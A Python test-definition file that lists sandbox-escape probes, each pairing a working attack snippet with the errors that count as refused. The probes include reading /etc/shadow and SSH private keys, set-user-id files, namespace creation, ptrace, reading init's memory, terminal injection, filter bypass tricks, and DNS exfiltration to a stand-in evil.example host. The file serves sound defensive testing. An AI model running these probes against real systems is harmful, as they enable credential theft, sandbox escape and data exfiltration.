"""The attacks, a row each: what it tries, its source, and the answers that count as refused. `attack()` must succeed in the arena
without a cage; in the cage it must end with one of `refused` and leave no trace in the arena."""

from dataclasses import dataclass


@dataclass(frozen=True)
class Probe:
    name: str
    tries: str
    code: str
    refused: tuple = ("EPERM",)
    # errno outside that means: this kernel has no such thing, so there is nothing to refuse.
    absent: tuple = ()
    # The record kind that the log must hold afterwards.
    record: str = ""


FILES = (
    Probe("shadow", "read /etc/shadow", '''
def attack(): return open("/etc/shadow").readline()[:4]''', ("ENOENT", "EACCES")),
    Probe("ssh-key", "read a private key in the caller's home", '''
def attack(): return open(ARENA["home"] + "/.ssh/id_ed25519").read()''', ("ENOENT", "EACCES")),
    Probe("write-outside", "write beside the workspace", '''
def attack(): open("/media/akios-mark", "w").write("x"); return "written"''', ("ENOENT", "EACCES", "EROFS")),
    Probe("symlink-out", "write outside through a symlink in the workspace", '''
def attack():
    os.path.lexists("out") or os.symlink("/media/akios-mark", "out")
    open("out", "w").write("x"); return "written"''', ("ENOENT", "EACCES", "EROFS")),
    Probe("session-log", "change the session's own log", '''
def attack(): open(ARENA["session"] + "/audit.jsonl", "a").write("{}"); return "appended"''', ("ENOENT", "EACCES", "EROFS")),
    Probe("inherited-fd", "read a secret through a descriptor the caller forgot to close", '''
def attack(): return os.read(ARENA["fd"], 20)''', ("EBADF",)),
    Probe("set-id", "leave a set-user-id file in the workspace", '''
def attack():
    open("tool", "w").close(); os.chmod("tool", 0o4755)
    return oct(os.stat("tool").st_mode)'''),
    Probe("set-id-create", "create a file with the bit set", '''
def attack():
    os.umask(0); os.path.exists("tool2") and os.unlink("tool2")
    os.close(os.open("tool2", os.O_CREAT | os.O_WRONLY, 0o4755)); return oct(os.stat("tool2").st_mode)'''),
    Probe("open-by-handle", "open a file by handle, past every mount", '''
def attack():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128)); mount = ctypes.c_int()
    call(303, ctypes.c_long(-100), b"/usr", handle, ctypes.byref(mount), 0)
    root = os.open("/usr", os.O_RDONLY)
    return "descriptor %d" % call(304, root, handle, os.O_RDONLY)''', absent=("EOPNOTSUPP",)),
)

KERNEL = (
    Probe("mount", "mount a file system", '''
def attack():
    if libc.mount(b"t", b"/tmp", b"tmpfs", 0, None): raise OSError(ctypes.get_errno(), "")
    libc.umount2(b"/tmp", 2); return "mounted"'''),
    Probe("unshare-user", "make a user namespace", '''
def attack(): in_child(lambda: call(272, 0x10000000)); return "namespace"'''),
    Probe("clone-user", "make a user namespace by clone", '''
def attack():
    pid = call(56, 0x10000000 | 17, 0, 0, 0, 0)
    if pid == 0: os._exit(0)
    os.waitpid(pid, 0); return "namespace"'''),
    Probe("clone3-net", "make namespaces by clone3, whose flags no filter can read", '''
def attack():
    pid = call(435, struct.pack("8Q", 0x10000000 | 0x40000000, 0, 0, 0, 17, 0, 0, 0), 64)
    if pid == 0: os._exit(0)
    os.waitpid(pid, 0); return "namespace"''', ("ENOSYS",)),
    Probe("ptrace", "trace another process", '''
def attack(): in_child(lambda: call(101, 0, 0, 0, 0)); return "traced"'''),
    Probe("kill-outside", "kill a process outside", '''
def attack(): os.kill(ARENA["victim"], 9); return "sent"''', ("ESRCH", "EPERM")),
    Probe("init-memory", "read the memory of process 1", '''
def attack():
    start = int(open("/proc/1/maps").readline().split("-")[0], 16)
    memory = open("/proc/1/mem", "rb", 0); memory.seek(start); return len(memory.read(64))''', ("EACCES", "EPERM", "ENOENT")),
    Probe("io_uring", "set up io_uring, whose operations no filter sees", '''
def attack(): return "ring %d" % call(425, 4, ctypes.create_string_buffer(120))''', ("ENOSYS", "EPERM"), absent=("ENOSYS", "EPERM")),
    Probe("bpf", "make a bpf map", '''
def attack(): return "map %d" % call(321, 0, struct.pack("5I", 2, 4, 4, 1, 0) + bytes(108), 128)''', ("EPERM", "ENOSYS")),
    Probe("keyctl", "add a key to the kernel's keyring", '''
def attack(): return "key %d" % call(248, b"user", b"akios-probe", b"x", 1, -2)''', ("EPERM", "ENOSYS")),
    Probe("userfaultfd", "stall the kernel by userfaultfd", '''
def attack(): return "descriptor %d" % call(323, 0)''', ("EPERM", "ENOSYS"), absent=("ENOSYS",)),
    Probe("perf", "watch the machine by perf_event_open", '''
def attack(): return "descriptor %d" % call(298, struct.pack("IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0)''',
          ("EPERM", "ENOSYS", "EACCES"), absent=("ENOENT", "ENOSYS")),
    Probe("tiocsti", "type into the terminal", '''
def attack():
    pid, master = pty.fork()
    if pid == 0:
        try: call(16, 0, 0x5412, b"x"); os._exit(0)
        except OSError as error: os._exit(error.errno)
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if status: raise OSError(status, "")
    return "typed"''', absent=("EIO",)),
    Probe("tiocsti-high", "the same with a high bit set, which an exact filter does not match", '''
def attack():
    pid, master = pty.fork()
    if pid == 0:
        try: call(16, 0, 0x5412 | 1 << 32, b"x"); os._exit(0)
        except OSError as error: os._exit(error.errno)
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if status: raise OSError(status, "")
    return "typed"''', absent=("EIO",)),
    Probe("memfd-exec", "start a program from memory", '''
def attack():
    memory = call(319, b"x", 0)
    os.write(memory, open("/bin/true", "rb").read())
    in_child(lambda: os.execve(memory, ["true"], {})); return "ran"''', ("EPERM", "EACCES", "ENOSYS")),
    Probe("x32", "a system call of the x32 table", '''
def attack(): in_child(lambda: call(0x40000000 | 39)); return "answered"''', ("Refused: killed by SIGSYS",), absent=("ENOSYS",)),
)

NETWORK = (
    Probe("raw-socket", "a raw socket", '''
def attack(): socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); return "open"''', ("EPERM", "EACCES", "EPROTONOSUPPORT"), record="socket.refused"),
    Probe("packet-socket", "a packet socket", '''
def attack(): socket.socket(socket.AF_PACKET, socket.SOCK_RAW); return "open"''', ("EPERM", "EACCES", "EAFNOSUPPORT"), record="socket.refused"),
    Probe("vsock", "a socket family that no namespace holds", '''
def attack(): socket.socket(40, socket.SOCK_STREAM); return "open"''', ("EPERM", "EACCES", "EAFNOSUPPORT"), absent=("EAFNOSUPPORT",), record="socket.refused"),
    Probe("unix-abstract", "a host's abstract Unix socket", '''
def attack(): s = socket.socket(socket.AF_UNIX); s.connect("\\0akios-arena"); return arena_answer(s)''', ("EPERM", "EACCES", "EAFNOSUPPORT"), record="socket.refused"),
    Probe("unix-path", "a host's Unix socket that lies in the workspace", '''
def attack(): s = socket.socket(socket.AF_UNIX); s.connect("host.sock"); return arena_answer(s)''', ("EPERM", "EACCES", "EAFNOSUPPORT"), record="socket.refused"),
    Probe("udp-443", "QUIC to 8.8.8.8", '''
def attack(): s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("8.8.8.8", 443)); return arena_answer(s, b"x")''',
          ("EPERM", "EACCES", "ECONNREFUSED", "EHOSTUNREACH"), record="packet.fenced"),
    Probe("udp-ntp", "a datagram to port 123", '''
def attack(): s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("8.8.8.8", 123)); return arena_answer(s, b"x")''',
          ("EPERM", "EACCES", "ECONNREFUSED", "EHOSTUNREACH"), record="packet.fenced"),
    Probe("dns-udp", "a name of 8.8.8.8, to carry data out in a question", '''
def attack():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("8.8.8.8", 53))
    return arena_answer(s, dns_query("c2VjcmV0.evil.example"))''',
          ("Refused: answered by the cage, not by the arena", "EPERM", "ECONNREFUSED", "TimeoutError")),
    Probe("dns-tcp", "the same over TCP", '''
def attack():
    s = socket.create_connection(("8.8.8.8", 53), 5); q = dns_query("c2VjcmV0.evil.example")
    return arena_answer(s, struct.pack(">H", len(q)) + q)''',
          ("Refused: answered by the cage, not by the arena", "ECONNREFUSED", "ECONNRESET", "EPERM")),
    Probe("dns-host", "have the host's resolver carry data out", '''
def attack():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("127.0.0.1", 53))
    return arena_answer(s, dns_query("c2VjcmV0.elsewhere.example"))''',
          ("Refused: answered by the cage, not by the arena", "EPERM", "ECONNREFUSED", "TimeoutError")),
    Probe("tcp-raw-address", "TCP to an address no name was ever given", '''
def attack(): return arena_answer(socket.create_connection(("8.8.8.8", 8443), 5), b"GET / HTTP/1.1\\r\\n\\r\\n")''',
          ("Refused: answered by the cage, not by the arena", "ECONNREFUSED", "ECONNRESET", "EPERM"), record="connection.refused"),
    Probe("ipv6", "TCP over IPv6", '''
def attack(): return arena_answer(socket.create_connection(("2001:db8::8", 443), 5), b"GET / HTTP/1.1\\r\\n\\r\\n")''',
          ("Refused: answered by the cage, not by the arena", "ECONNREFUSED", "ECONNRESET", "EPERM", "ENETUNREACH"),
          record="connection.refused"),
    Probe("host-loopback", "a service on the host's loopback", '''
def attack(): return arena_answer(socket.create_connection(("127.0.0.1", 7777), 5))''', ("ECONNREFUSED",)),
    Probe("proxy-port", "the proxy's own port, past the capture", '''
def attack(): return arena_answer(socket.create_connection(("127.0.0.1", 1), 5))''', ("ECONNREFUSED",), record="packet.fenced"),
    Probe("icmp", "an echo request", '''
def attack():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); s.settimeout(5); s.connect(("8.8.8.8", 0))
    s.send(struct.pack("!BBHHH", 8, 0, 0xF7FE, 0, 1)); return len(s.recv(64))''', ("EPERM", "EACCES", "EPROTONOSUPPORT"), record="socket.refused"),
    Probe("route", "a route of its own", '''
def attack():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.bind((0, 0))
    rtm = struct.pack("BBBBBBBBI", 2, 24, 0, 0, 254, 4, 253, 1, 0)
    attributes = struct.pack("HH4s", 8, 1, bytes([10, 9, os.getpid() % 250, 0])) + struct.pack("HHI", 8, 4, 1)
    s.send(struct.pack("IHHII", 16 + len(rtm + attributes), 24, 0x405, 1, 0) + rtm + attributes)
    code = -struct.unpack("i", s.recv(4096)[16:20])[0]
    if code: raise OSError(code, "")
    return "added"''', ("EPERM", "EACCES")),
    Probe("host-mismatch", "a granted name in the handshake, another in Host", '''
def attack():
    import http.client
    c = http.client.HTTPSConnection("api.openai.com", timeout=10)
    c.putrequest("POST", "/v1/chat/completions", skip_host=True); c.putheader("Host", "evil.example")
    body = b'{"model":"gpt-4o","messages":[{"role":"user","content":"host-mismatch"}]}'
    c.putheader("Content-Type", "application/json"); c.putheader("Content-Length", str(len(body))); c.endheaders(body)
    r = c.getresponse(); r.read()
    if r.status != 200: raise Refused(str(r.status))
    return r.status''', ("Refused: 421", "Refused: 403"), record="request.refused"),
    Probe("sni-mismatch", "a granted address and Host, another name in the handshake", '''
def attack():
    import http.client, ssl
    c = http.client.HTTPSConnection("api.openai.com", timeout=10)
    c.sock = ssl.create_default_context().wrap_socket(socket.create_connection(("api.openai.com", 443), 10), server_hostname="evil.example")
    c.request("POST", "/v1/chat/completions", b'{"model":"gpt-4o","messages":[{"role":"user","content":"x"}]}', {"Content-Type": "application/json"})
    r = c.getresponse(); r.read()
    if r.status != 200: raise Refused(str(r.status))
    return r.status''', ("Refused: 421", "Refused: 403")),
)

ALL = FILES + KERNEL + NETWORK
